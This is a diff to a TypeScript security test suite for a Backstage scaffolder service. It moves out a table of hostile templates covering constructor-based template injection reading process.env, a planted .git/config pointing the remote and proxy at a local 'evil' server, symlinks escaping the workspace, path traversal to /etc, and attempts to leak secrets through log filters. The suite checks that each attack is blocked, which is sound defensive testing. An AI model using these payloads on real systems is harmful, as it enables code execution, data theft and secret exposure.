@@ -1,22 +1,12 @@
-import {
-  existsSync,
-  mkdirSync,
-  mkdtempSync,
-  readFileSync,
-  rmSync,
-  symlinkSync,
-  writeFileSync,
-} from 'node:fs';
+import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
-import { dirname, join } from 'node:path';
+import { join } from 'node:path';
 import type { JsonObject } from '@backstage/types';
-import { located, type Paths, startPaths, TEMPLATE } from './__testUtils__/startPaths';
+import { CANARY, outside, root, storedAttacks } from './__testUtils__/attacks';
+import { type Paths, startPaths, TEMPLATE } from './__testUtils__/startPaths';
 
-const root = mkdtempSync(join(tmpdir(), 'attacks-'));
-const outside = join(root, 'outside');
-const CANARY = 'canary-5d1f8f0a';
 const values = {
   name: 'payments',
   description: 'Takes payments.',
@@ -24,152 +14,6 @@ const values = {
   size: 'small',
   database: false,
 };
-
-/** A stored template of whoever may write one: what it has beside it, and its steps. */
-interface Attack {
-  files?: Record<string, string>;
-  links?: Record<string, string>;
-  steps: object[];
-}
-
-const log = (message: string) => ({ id: 'log', name: 'Log', action: 'debug:log', input: { message } });
-const fetchContent = (targetPath?: string) => ({
-  id: 'fetch',
-  name: 'Fetch',
-  action: 'fetch:template',
-  input: { url: './content', values: { path: '${{ parameters.path }}' }, ...(targetPath && { targetPath }) },
-});
-const list = { id: 'list', name: 'List', action: 'debug:log', input: { listWorkspace: 'with-contents' } };
-
-const attacks: Record<string, Attack> = {
-  'target-path': { files: { 'content/x': 'x' }, steps: [fetchContent('../../outside')] },
-  'file-name': { files: { 'content/${{ values.path }}': 'x' }, steps: [fetchContent()] },
-  code: {
-    files: { 'content/x': "${{ values.path.constructor.constructor('return process.env.PATHS_CANARY')() }}" },
-    steps: [
-      fetchContent(),
-      list,
-      log("${{ ''.constructor.constructor('return process.env.PATHS_CANARY')() }}"),
-      log("${{ range.constructor('return process.env.PATHS_CANARY')() }}"),
-      log("${{ cycler.__proto__.constructor.constructor('return process.env.PATHS_CANARY')() }}"),
-      log('${{ process.env.PATHS_CANARY }} ${{ global.process.env.PATHS_CANARY }} ${{ self.constructor }}'),
-      log('${{ parameters.path }}'),
-    ],
-  },
-  'git-config': {
-    files: {
-      'content/.git/config': '[remote "origin"]\n\turl = EVIL/storefront/x.git\n[http]\n\tproxy = EVIL\n',
-      'content/README.md': 'x',
-    },
-    steps: [
-      { id: 'fetch', name: 'Fetch', action: 'fetch:plain', input: { url: './content' } },
-      {
-        id: 'publish',
-        name: 'Publish',
-        action: 'publish:gitea',
-        input: { repoUrl: '${{ parameters.path }}', description: 'x', defaultBranch: 'main' },
-      },
-    ],
-  },
-  links: {
-    files: { 'content/own': 'own' },
-    links: {
-      'content/file': join(outside, 'secret'),
-      'content/folder': outside,
-      'content/dangling': join(outside, 'later'),
-      'content/one': outside,
-      'content/two': 'one',
-      'content/three': 'two/secret',
-    },
-    steps: [
-      { id: 'fetch', name: 'Fetch', action: 'fetch:plain', input: { url: './content' } },
-      list,
-      {
-        id: 'delete',
-        name: 'Delete',
-        action: 'fs:delete',
-        input: { files: ['file', 'folder/secret', 'two/secret', 'three', 'folder/*'] },
-      },
-    ],
-  },
-  'committed-links': {
-    files: { 'content/own': 'own' },
-    links: { 'content/file': join(outside, 'secret') },
-    steps: [
-      { id: 'fetch', name: 'Fetch', action: 'fetch:plain', input: { url: './content' } },
-      {
-        id: 'commit',
-        name: 'Commit',
-        action: 'greenroom:git:commit',
-        input: { repository: '${{ parameters.path }}', sourcePath: './', message: 'x' },
-      },
-    ],
-  },
-  'source-path': {
-    steps: [
-      {
-        id: 'commit',
-        name: 'Commit',
-        action: 'greenroom:git:commit',
-        input: {
-          repository: '${{ parameters.repository }}',
-          sourcePath: '${{ parameters.path }}',
-          message: 'x',
-        },
-      },
-    ],
-  },
-  repository: {
-    files: { 'content/x': 'x' },
-    steps: [
-      { id: 'fetch', name: 'Fetch', action: 'fetch:plain', input: { url: './content' } },
-      {
-        id: 'commit',
-        name: 'Commit',
-        action: 'greenroom:git:commit',
-        input: { repository: '${{ parameters.path }}', sourcePath: './', message: 'x' },
-      },
-    ],
-  },
-  secrets: {
-    steps: [
-      log('${{ secrets.mine }}'),
-      log('${{ secrets.mine | dump }}'),
-      log('${{ secrets.mine | urlencode }}'),
-      log('${{ secrets.mine | upper }}'),
-      log('${{ secrets.mine | reverse }}'),
-      log('before ${{ secrets.mine }} after'),
-      { ...log('each ${{ each.value }}'), each: ['${{ secrets.mine }}'] },
-      {
-        id: 'commit',
-        name: 'Commit',
-        action: 'greenroom:git:commit',
-        input: {
-          repository: 'https://greenroom:${{ secrets.mine }}@git.example/a/b',
-          sourcePath: 'x',
-          message: 'x',
-        },
-      },
-    ],
-  },
-};
-
-function store(name: string, { files = {}, links = {}, steps }: Attack, evil: string) {
-  const folder = join(root, name);
-  mkdirSync(folder, { recursive: true });
-  for (const [path, content] of Object.entries(files)) {
-    mkdirSync(dirname(join(folder, path)), { recursive: true });
-    writeFileSync(join(folder, path), content.replaceAll('EVIL', evil));
-  }
-  Object.entries(links).forEach(([path, target]) => symlinkSync(target, join(folder, path)));
-  const entity = {
-    apiVersion: 'scaffolder.backstage.io/v1beta3',
-    kind: 'Template',
-    metadata: { name },
-    spec: { owner: 'platform', type: 'service', parameters: [{ properties: {} }], steps },
-  };
-  return located(entity, join(folder, 'template.yaml'));
-}
 
 describe('an attack on golden paths', () => {
   let paths: Paths;
@@ -188,9 +32,7 @@ describe('an attack on golden paths', () => {
       evil.listen(0, '127.0.0.1', resolve);
     });
     const address = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
-    paths = await startPaths({
-      templates: Object.entries(attacks).map(([name, what]) => store(name, what, address)),
-    });
+    paths = await startPaths({ templates: storedAttacks(address) });
     await paths.sandbox.git.host.open();
   }, 60_000);
 
@@ -218,7 +60,7 @@ describe('an attack on golden paths', () => {
     expect(existsSync(join(outside, 'evil'))).toBe(false);
   }, 30_000);
 
-  it('CVE-2021-41151: nothing from outside the workspace is committed', async () => {
+  it('nothing from outside the workspace is committed', async () => {
     const repository = `${paths.proxy.url}/platform/applications`;
     for (const path of ['../..', '/etc', outside, '../outside', 'x/../../../outside']) {
       const { status, said } = await attack('source-path', { path, repository });
@@ -227,7 +69,7 @@ describe('an attack on golden paths', () => {
     }
   }, 30_000);
 
-  it('CVE-2022-36067, CVE-2023-35926: no code of a template or a value is run', async () => {
+  it('GHSA-2g8g-63j4-9w3r, CVE-2022-36067, CVE-2023-35926: no code of a template or a value is run', async () => {
     const { said } = await attack('code', {
       path: "${{ ''.constructor.constructor('return process.env.PATHS_CANARY')() }}",
     });
@@ -242,7 +84,7 @@ describe('an attack on golden paths', () => {
     expect(lured).toEqual([]);
   }, 60_000);
 
-  it('CVE-2026-24046, CVE-2026-24047: links, chains of links and links to nothing lead nowhere', async () => {
+  it('CVE-2024-26150, CVE-2026-24046, CVE-2026-24047: links, chains of links and links to nothing lead nowhere', async () => {
     const { said } = await attack('links');
     expect(said).not.toContain(CANARY);
     expect(readFileSync(join(outside, 'secret'), 'utf8')).toBe(CANARY);
@@ -260,7 +102,7 @@ describe('an attack on golden paths', () => {
     expect(JSON.stringify(preview.body)).not.toContain(CANARY);
   }, 30_000);
 
-  it('CVE-2026-29184, CVE-2026-106499: neither secrets nor what is made of them is in the log', async () => {
+  it('CVE-2026-29184: neither secrets nor what is made of them is in the log', async () => {
     const mine = 'hunter2-and-more/ü';
     const { id, said } = await attack('secrets', {}, { mine });
     const report = JSON.stringify(await paths.report(id));
@@ -289,12 +131,12 @@ describe('an attack on golden paths', () => {
     expect(Object.keys(task.body)).not.toContain('state');
   }, 30_000);
 
-  it('CVE-2026-106506: tasks are not ordered by what nobody may see', async () => {
+  it('tasks are not ordered by what nobody may see', async () => {
     const answer = await paths.ask('get', '/scaffolder/v2/tasks?order=asc:secrets');
     expect(answer.status).toBe(400);
   });
 
-  it('CVE-2026-106560: no address leads out of its repository', async () => {
+  it('no address leads out of its repository', async () => {
     const { url, port } = paths.proxy;
     const before = await paths.sandbox.git.host.heads('main');
     for (const path of [
